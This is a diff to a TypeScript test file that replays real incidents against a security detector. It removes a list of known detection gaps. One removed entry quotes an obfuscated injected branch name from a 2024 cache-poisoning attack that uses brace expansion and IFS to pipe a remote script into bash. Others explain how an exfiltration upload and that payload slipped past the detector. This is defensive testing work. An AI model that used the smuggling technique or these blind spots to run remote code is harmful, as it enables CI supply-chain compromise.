@@ -12,14 +12,7 @@ const SEED = 1;
  * detector's owner with the exact case. A listed gap is skipped with its reason;
  * once the detector catches it the test fails, asking for the entry's removal.
  */
-const KNOWN_DETECTOR_GAPS: Record<string, string> = {
-  'secret-exfiltration-new-host resource.net_tx.high':
-    'the volume tail guard (1.5x the largest value in the window) absorbs the exfiltration upload when earlier cache uploads sit in the window; issue 4 is open on this',
-  'secret-exfiltration-new-host high':
-    'without resource.net_tx.high the exfiltration pairing cannot fire, so only the medium new-host finding remains; issue 4 is open on this',
-  'ultralytics-cache-poisoning-2024 log.pipe_to_shell':
-    "PIPE_TO_SHELL needs a literal http(s):// URL and whitespace around the pipe; the injected branch name is `$({curl,-sSfL,raw.githubusercontent.com/…/file.sh}${IFS}|${IFS}bash)`",
-};
+const KNOWN_DETECTOR_GAPS: Record<string, string> = {};
 
 describe('real incidents, replayed against the detector', function () {
   this.timeout(60_000);
